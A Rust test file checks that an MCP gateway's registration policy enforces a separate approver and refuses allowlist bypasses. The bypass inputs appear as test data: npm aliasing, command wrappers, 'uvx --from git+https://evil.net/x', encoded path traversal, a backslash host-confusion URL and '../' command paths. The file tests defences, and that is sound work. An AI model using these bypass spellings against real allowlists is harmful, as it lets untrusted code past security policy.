//! Who is a second person, and what nobody gets past the registration policy by spelling it another way.

use serde_json::{Value, json};

use super::{key, peer, refused};
use crate::harness::{Answer, Gantry};

const SERVERS: &str = "/api/v1/mcp/servers";
const KEYS: &str = "/api/v1/keys";
const SETTINGS: &str = "/api/v1/settings";

fn set(gantry: &Gantry, changes: &Value) {
    let answer = gantry.rest("PATCH", SETTINGS, Some(changes));
    assert_eq!(answer.status, 200, "{}", answer.text());
}

/// Makes an admin's key with another admin's key.
fn admin(gantry: &Gantry, by: &str, name: &str) -> String {
    let body = json!({"kind": "admin", "role": "admin", "agent": name});
    let made = gantry.rest_as(by, "POST", KEYS, Some(&body));
    assert_eq!(made.status, 201, "{}", made.text());
    made.json()["key"].as_str().unwrap().to_owned()
}

// faults U4, G8, K4
#[test]
fn an_admin_and_the_keys_they_make_are_one_person() {
    let gantry = Gantry::start(&["a"]);
    set(
        &gantry,
        &json!({"registration.approve": ["local", "all_grants"]}),
    );
    let (ann, bob) = (
        admin(&gantry, &gantry.admin, "ann"),
        admin(&gantry, &gantry.admin, "bob"),
    );
    // Ann makes no approver, and takes none away.
    let approver = json!({"kind": "admin", "role": "approver", "agent": "mine"});
    refused(
        &gantry.rest_as(&ann, "POST", KEYS, Some(&approver)),
        403,
        "auth.role",
    );
    let carl = admin(&gantry, &ann, "carl");
    let dora = admin(&gantry, &carl, "dora");
    let asks = |name: &str| -> String {
        let asked = gantry.rest_as(&ann, "POST", SERVERS, Some(&peer(name)));
        assert_eq!(asked.status, 202, "{}", asked.text());
        let id = asked.json()["id"].as_str().unwrap().to_owned();
        format!("/api/v1/registrations/{id}/approve")
    };
    let approve = asks("peer");
    for own in [&ann, &carl, &dora] {
        refused(
            &gantry.rest_as(own, "POST", &approve, None),
            403,
            "registration.own",
        );
    }
    let done = gantry.rest_as(&bob, "POST", &approve, None);
    assert_eq!(done.status, 200, "{}", done.text());
    // Who asks through another's hands is still who asked: what Carl asks, Ann's other keys approve not.
    let asked = gantry.rest_as(&carl, "POST", SERVERS, Some(&peer("second")));
    let id = asked.json()["id"].as_str().unwrap().to_owned();
    let path = format!("/api/v1/registrations/{id}/approve");
    refused(
        &gantry.rest_as(&dora, "POST", &path, None),
        403,
        "registration.own",
    );
    // Nor does Ann herself, nor a key that she made beside Carl's.
    let emil = admin(&gantry, &ann, "emil");
    for own in [&ann, &emil] {
        refused(
            &gantry.rest_as(own, "POST", &path, None),
            403,
            "registration.own",
        );
    }
    let done = gantry.rest_as(&bob, "POST", &path, None);
    assert_eq!(done.status, 200, "{}", done.text());
    // What asks for a second person is not switched off by the first.
    for loosened in [
        json!({"registration.approve": []}),
        json!({"registration.approve": null}),
        json!({"registration.commands": ["*"]}),
    ] {
        for key in [&ann, &carl] {
            let answer = gantry.rest_as(key, "PATCH", SETTINGS, Some(&loosened));
            refused(&answer, 403, "registration.approval");
        }
    }
    let settings = gantry.rest("GET", SETTINGS, None).text();
    assert!(settings.contains(r#"["local","all_grants"]"#), "{settings}");
    // A grant on everything is one however it is spelled.
    for (at, everything) in ["**:*", "*:**", "*:tool:*", "***:tool:**"]
        .iter()
        .enumerate()
    {
        let agent = json!({"name": format!("wide-{at}"), "grant": [everything]});
        let asked = gantry.rest_as(&ann, "POST", "/api/v1/agents", Some(&agent));
        assert_eq!(asked.status, 202, "{everything}: {}", asked.text());
    }
    let group = json!({"name": "all", "servers": ["**"]});
    let made = gantry.rest_as(&ann, "POST", "/api/v1/groups", Some(&group));
    refused(&made, 403, "registration.approval");
    // One that is there already is everything, too, under any name.
    let made = gantry.rest("POST", "/api/v1/groups", Some(&group));
    assert_eq!(made.status, 201, "{}", made.text());
    let through = json!({"all_agents": true, "server": "@all", "item": "tool:*"});
    let asked = gantry.rest_as(&ann, "POST", "/api/v1/grants", Some(&through));
    assert_eq!(asked.status, 202, "{}", asked.text());
    let some = json!({"all_agents": true, "server": "@all", "item": "echo"});
    let made = gantry.rest_as(&ann, "POST", "/api/v1/grants", Some(&some));
    assert_eq!(made.status, 201, "{}", made.text());
    // A hook that is a command runs here like a server of the profile `local`.
    let hook = json!({"on": "request", "command": "/bin/true", "tools": ["none:*"]});
    let asked = gantry.rest_as(&ann, "PUT", "/api/v1/hooks/look", Some(&hook));
    assert_eq!(asked.status, 202, "{}", asked.text());
    let asked = asked.json();
    assert_eq!(asked["asked"]["command"], "/bin/true", "{asked}");
    let path = format!(
        "/api/v1/registrations/{}/approve",
        asked["id"].as_str().unwrap()
    );
    refused(
        &gantry.rest_as(&ann, "POST", &path, None),
        403,
        "registration.own",
    );
    let hooks = || gantry.rest("GET", "/api/v1/hooks", None).text();
    assert!(!hooks().contains("look"), "{}", hooks());
    let done = gantry.rest_as(&bob, "POST", &path, None);
    assert_eq!(done.status, 200, "{}", done.text());
    assert!(hooks().contains("look"), "{}", hooks());
    // Whoever manages the installation can do all of it.
    let approver = key(&gantry, KEYS, &approver);
    let done = gantry.rest_as(&approver, "POST", &asks("third"), None);
    assert_eq!(done.status, 200, "{}", done.text());
    set(&gantry, &json!({"registration.approve": []}));
}

// fault G8
#[test]
fn what_the_policy_refuses_has_no_other_spelling() {
    let gantry = Gantry::start(&["a"]);
    let fits = peer("fits");
    let made = gantry.rest("POST", SERVERS, Some(&fits));
    assert_eq!(made.status, 201, "{}", made.text());
    set(
        &gantry,
        &json!({"registration.packages": ["@acme/*"], "registration.images": ["registry.example/*"],
            "registration.urls": ["https://*.example.com/mcp/*"]}),
    );
    let tried = |body: &Value| -> [Answer; 3] {
        let mut whole = body.clone();
        whole["name"] = "x".into();
        let mut change = body.clone();
        change["name"] = "fits".into();
        [
            gantry.rest("POST", SERVERS, Some(&whole)),
            gantry.rest("POST", &format!("{SERVERS}/preview"), Some(&whole)),
            gantry.rest("PUT", &format!("{SERVERS}/fits"), Some(&change)),
        ]
    };
    for body in [
        json!({"command": "npx", "args": ["-y", "@acme/x@npm:left-pad"]}),
        json!({"command": "npx", "args": ["--package=left-pad", "@acme/x"]}),
        json!({"command": "npm", "args": ["x", "left-pad"]}),
        json!({"command": "/usr/bin/env", "args": ["npx", "left-pad"]}),
        json!({"command": "mise", "args": ["x", "--", "npx", "left-pad"]}),
        json!({"command": "podman-remote", "args": ["run", "-i", "registry.example/x"]}),
        json!({"command": "uvx", "args": ["--from", "git+https://evil.net/x", "@acme/x"]}),
        json!({"command": "docker", "args": ["run", "-i", "registry.example/x"]}),
        json!({"url": "https://a.example.com/mcp/../admin"}),
        json!({"url": "https://a.example.com/mcp/%2e%2E/admin"}),
        json!({"url": "https://a.example.com:8443/mcp/x"}),
    ] {
        for answer in tried(&body) {
            refused(&answer, 403, "registration.refused");
        }
    }
    // A backslash ends the host for clients, so that `evil.net` would be asked.
    for answer in tried(&json!({"url": r"https://evil.net\.example.com/mcp/x"})) {
        assert!([403, 422].contains(&answer.status), "{}", answer.text());
    }
    set(
        &gantry,
        &json!({"registration.commands": ["/opt/tools/*"], "registration.packages": null}),
    );
    for answer in tried(&json!({"command": "/opt/tools/../../bin/cat"})) {
        refused(&answer, 403, "registration.refused");
    }
    assert_eq!(
        gantry.rest("GET", &format!("{SERVERS}/x"), None).status,
        404
    );
}
